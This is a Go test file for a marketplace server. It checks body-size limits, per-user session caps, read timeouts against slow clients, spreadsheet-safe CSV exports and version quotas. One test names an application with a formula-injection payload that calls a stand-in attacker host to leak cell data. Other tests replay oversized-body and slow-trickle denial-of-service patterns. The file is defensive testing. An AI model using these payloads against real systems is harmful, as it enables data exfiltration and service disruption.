package main

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"
)

// TestStorefrontBodiesAreBounded plays forty-megabyte sign-in forms (which grew the server by 248 MB
// before any authentication), a sign-in form a little over its limit, a multipart upload, and a large
// form of a signed-in user: each is refused before it is read, and a real sign-in still works.
func TestStorefrontBodiesAreBounded(t *testing.T) {
	mp := startMarketplace(t, "serve", nil)
	_, token := mp.user(t, "consumer")

	post := func(path, contentType string, body io.Reader, cookies ...*http.Cookie) int {
		t.Helper()
		req, err := http.NewRequest("POST", mp.URL+path, body)
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set("Content-Type", contentType)
		for _, c := range cookies {
			req.AddCookie(c)
		}
		resp, err := http.DefaultTransport.RoundTrip(req)
		if err != nil {
			// The server may close the connection once it has answered, before the client sent it all.
			return -1
		}
		resp.Body.Close()
		return resp.StatusCode
	}
	huge := "token=" + strings.Repeat("A", 40<<20)
	if got := post("/signin", "application/x-www-form-urlencoded", strings.NewReader(huge)); got != http.StatusRequestEntityTooLarge && got != -1 {
		t.Fatalf("a 40 MB sign-in form: %d, want 413", got)
	}
	// Without a Content-Length (chunked), the limit holds while reading.
	chunked := io.MultiReader(strings.NewReader("token="), strings.NewReader(strings.Repeat("B", 8<<10)))
	if got := post("/signin", "application/x-www-form-urlencoded", io.NopCloser(chunked)); got != http.StatusRequestEntityTooLarge {
		t.Fatalf("an 8 KiB chunked sign-in form: %d, want 413", got)
	}
	var multipart bytes.Buffer
	multipart.WriteString("--x\r\nContent-Disposition: form-data; name=\"token\"\r\n\r\n" + token + "\r\n--x--\r\n")
	if got := post("/signin", "multipart/form-data; boundary=x", &multipart); got != http.StatusUnsupportedMediaType {
		t.Fatalf("a multipart sign-in: %d, want 415", got)
	}

	// A signed-in user's forms are bounded at 1 MiB: a project named with 2 MiB is refused, and no project made.
	c := newStorefrontClient(t, mp.URL)
	c.signIn(token, "/")
	resp, page := c.do("POST", "/projects", url.Values{"name": {strings.Repeat("p", 2<<20)}}, nil)
	if resp.StatusCode != http.StatusRequestEntityTooLarge {
		t.Fatalf("a 2 MiB project form: %d, want 413: %.200s", resp.StatusCode, page)
	}
	var projects int
	query(t, mp.DatabaseURL, `SELECT count(*) FROM projects`, nil, &projects)
	if projects != 0 {
		t.Fatalf("%d projects after a refused form, want 0", projects)
	}
	resp, page = c.do("POST", "/projects", url.Values{"name": {"small"}}, nil)
	if resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("a small project form: %d: %.200s", resp.StatusCode, page)
	}
}

// TestStorefrontSessionsPerUser signs one user in twelve times: the sessions past the limit end, the
// oldest first, and the newest still works.
func TestStorefrontSessionsPerUser(t *testing.T) {
	mp := startMarketplace(t, "serve", nil)
	id, token := mp.user(t, "consumer")
	var clients []*storefrontClient
	for i := 0; i < 12; i++ {
		c := newStorefrontClient(t, mp.URL)
		c.signIn(token, "/")
		clients = append(clients, c)
	}
	var sessions int
	query(t, mp.DatabaseURL, `SELECT count(*) FROM web_sessions WHERE user_id = $1`, []any{id}, &sessions)
	if sessions != 10 {
		t.Fatalf("%d sessions after 12 sign-ins, want 10", sessions)
	}
	if resp, _ := clients[0].do("GET", "/deployments", nil, nil); resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("the oldest session: %d, want 303 to sign in", resp.StatusCode)
	}
	if resp, _ := clients[11].do("GET", "/deployments", nil, nil); resp.StatusCode != http.StatusOK {
		t.Fatalf("the newest session: %d, want 200", resp.StatusCode)
	}
}

// TestServerDropsSlowClients holds a connection by trickling a request's body, and another by sending
// nothing after its headers: the server closes both once its read timeout has passed.
func TestServerDropsSlowClients(t *testing.T) {
	mp := startMarketplace(t, "serve", map[string]string{"HTTP_READ_TIMEOUT": "2s", "HTTP_IDLE_TIMEOUT": "2s"})
	addr := strings.TrimPrefix(mp.URL, "http://")
	for _, c := range []struct{ name, request string }{
		{"a trickled body", "POST /signin HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 1000\r\n\r\ntoken="},
		{"an idle keep-alive", "GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n"},
	} {
		conn, err := net.Dial("tcp", addr)
		if err != nil {
			t.Fatal(err)
		}
		defer conn.Close()
		if _, err := io.WriteString(conn, c.request); err != nil {
			t.Fatal(err)
		}
		closed := make(chan struct{})
		go func() { io.Copy(io.Discard, conn); close(closed) }()
		deadline := time.After(20 * time.Second)
	trickle:
		for {
			select {
			case <-closed:
				break trickle
			case <-deadline:
				t.Fatalf("%s: the connection is still open after 20 s (read timeout 2 s)", c.name)
			case <-time.After(500 * time.Millisecond):
				if c.name == "a trickled body" {
					conn.Write([]byte("A"))
				}
			}
		}
	}
}

// TestCSVCellsAreInert: a publisher names its application as a spreadsheet formula; the payout and
// revenue CSV the publisher and the operator open show it as text.
func TestCSVCellsAreInert(t *testing.T) {
	mp := startMarketplace(t, "serve", nil)
	pub, tokPub := mp.user(t, "publisher")
	con, tokCon := mp.user(t, "consumer")
	name := `=HYPERLINK("http://evil.example/?leak="&A1,"Invoice")`
	app := num(t, mp.must(t, 201, "POST", "/api/apps/new", tokPub, map[string]any{"name": name, "hourly_rate": 1.1,
		"deployment": map[string]any{"type": "k8s", "repoURL": tenv.ChartRepo, "chartName": "hello-web"}}).JSON(t)["id"])
	project := num(t, mp.must(t, 201, "POST", "/api/user/project/new", tokCon, map[string]any{"name": "p"}).JSON(t)["id"])
	dep := num(t, mp.must(t, 202, "POST", "/api/deployments/install", tokCon,
		map[string]any{"application_id": app, "project_id": project}).JSON(t)["deploymentID"])
	mp.waitForStatus(t, tokCon, dep, "installed", 2*time.Minute)

	for _, asker := range []string{tokPub, mp.Environ["MARKETPLACE_ADMIN_TOKEN"]} {
		body := mp.must(t, 200, "GET", fmt.Sprintf("/api/billing/publisher/%d?format=csv", pub), asker, nil).Body
		rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
		if err != nil {
			t.Fatalf("revenue CSV: %v\n%s", err, body)
		}
		found := false
		for _, row := range rows {
			for _, cell := range row {
				if strings.Contains(cell, "HYPERLINK") {
					found = true
					if cell != "'"+name {
						t.Fatalf("the application's name in the revenue CSV is %q, want it as text: %q", cell, "'"+name)
					}
				}
			}
		}
		if !found {
			t.Fatalf("no application row in the revenue CSV:\n%s", body)
		}
	}

	// Closed into March 2025, then renamed: the invoice and the payout keep the name it had at the close,
	// as text.
	mp.must(t, 202, "DELETE", fmt.Sprintf("/api/deployments/%d", dep), tokCon, nil)
	mp.waitForStatus(t, tokCon, dep, "uninstalled", 2*time.Minute)
	var moved int
	query(t, mp.DatabaseURL, `WITH m AS (UPDATE usage_records SET started_at = '2025-03-10Z', ended_at = '2025-03-10 01:00Z',
  amount = usage_amount(hourly_rate, '2025-03-10Z', '2025-03-10 01:00Z') WHERE deployment_id = $1 RETURNING 1) SELECT count(*) FROM m`, []any{dep}, &moved)
	mp.must(t, 200, "POST", "/api/billing/periods/2025-03/close", mp.Environ["MARKETPLACE_ADMIN_TOKEN"], nil)
	mp.must(t, 200, "PUT", fmt.Sprintf("/api/apps/%d", app), tokPub, map[string]any{"name": "renamed", "hourly_rate": 1.1,
		"deployment": map[string]any{"type": "k8s", "repoURL": tenv.ChartRepo, "chartName": "hello-web"}})
	payout := string(mp.must(t, 200, "GET", fmt.Sprintf("/api/billing/publisher/%d/payouts/2025-03?format=csv", pub), tokPub, nil).Body)
	invoices := mp.must(t, 200, "GET", fmt.Sprintf("/api/billing/user/%d/invoices", con), tokCon, nil).JSON(t)["invoices"].([]any)
	invoice := string(mp.must(t, 200, "GET", fmt.Sprintf("/api/billing/user/%d/invoices/%s?format=csv", con, invoices[0].(map[string]any)["number"]), tokCon, nil).Body)
	for what, doc := range map[string]string{"payout": payout, "invoice": invoice} {
		if !strings.Contains(doc, `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Invoice"")"`) || strings.Contains(doc, "renamed") {
			t.Errorf("the %s CSV does not show the name at the close as text:\n%s", what, doc)
		}
	}
}

// TestVersionsPerApplicationAreBounded publishes versions past QUOTA_VERSIONS_PER_APP: the one past it is
// refused (409) and not stored.
func TestVersionsPerApplicationAreBounded(t *testing.T) {
	mp := startMarketplace(t, "serve", map[string]string{"QUOTA_VERSIONS_PER_APP": "2"})
	_, pub := mp.user(t, "publisher")
	spec := map[string]any{"type": "k8s", "repoURL": tenv.ChartRepo, "chartName": "hello-web"}
	mp.must(t, 201, "POST", "/api/apps/new", pub, map[string]any{"name": "web", "hourly_rate": 1, "deployment": spec})
	mp.must(t, 201, "POST", "/api/apps/1/versions", pub, map[string]any{"hourly_rate": 1, "deployment": spec, "changelog": "2"})
	if r := mp.call(t, "POST", "/api/apps/1/versions", pub, map[string]any{"hourly_rate": 1, "deployment": spec, "changelog": "3"}); r.Status != 409 ||
		!strings.Contains(string(r.Body), "QUOTA_VERSIONS_PER_APP") {
		t.Fatalf("a third version past a quota of 2: %d %s, want 409 naming the setting", r.Status, r.Body)
	}
	var versions int
	query(t, mp.DatabaseURL, `SELECT count(*) FROM application_versions WHERE application_id = 1`, nil, &versions)
	if versions != 2 {
		t.Fatalf("%d versions stored, want 2", versions)
	}
}
